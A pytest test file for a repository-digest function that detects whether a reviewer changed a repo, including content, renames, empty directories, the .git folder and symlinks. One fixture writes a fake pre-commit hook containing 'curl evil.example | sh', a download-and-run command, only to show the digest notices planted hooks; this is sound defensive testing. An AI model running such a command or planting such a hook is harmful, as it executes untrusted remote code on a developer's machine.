"""The repository digest that proves a reviewer left the repo untouched."""

from __future__ import annotations

from pathlib import Path

from phasegate.reviews.repo_digest import tree_digest


def _repo(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("a = 1\n")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return tmp_path


def test_digest_is_stable_and_sees_content_names_and_empty_dirs(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    first = tree_digest(repo)
    assert tree_digest(repo) == first
    (repo / "src" / "a.py").write_text("a = 2\n")
    changed = tree_digest(repo)
    assert changed != first
    (repo / "src" / "a.py").rename(repo / "src" / "b.py")
    renamed = tree_digest(repo)
    assert renamed != changed
    (repo / "new-empty-dir").mkdir()
    assert tree_digest(repo) != renamed


def test_excluded_paths_are_ignored(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (repo / "runs").mkdir()
    before = tree_digest(repo, ["runs"])
    (repo / "runs" / "state.db").write_text("journal write")
    assert tree_digest(repo, ["runs"]) == before
    assert tree_digest(repo, [str(repo / "runs")]) == before


def test_the_git_folder_is_covered(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    before = tree_digest(repo)
    (repo / ".git" / "hooks").mkdir()
    with_hooks = tree_digest(repo)
    assert with_hooks != before
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    assert tree_digest(repo) != with_hooks
    hooked = tree_digest(repo)
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/other\n")
    assert tree_digest(repo) != hooked


def test_symlinks_are_hashed_by_target_not_followed(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    outside.write_text("outside")
    (repo / "link").symlink_to(outside)
    before = tree_digest(repo)
    outside.write_text("changed outside the repo")
    assert tree_digest(repo) == before
    (repo / "link").unlink()
    (repo / "link").symlink_to(repo / "src" / "a.py")
    assert tree_digest(repo) != before
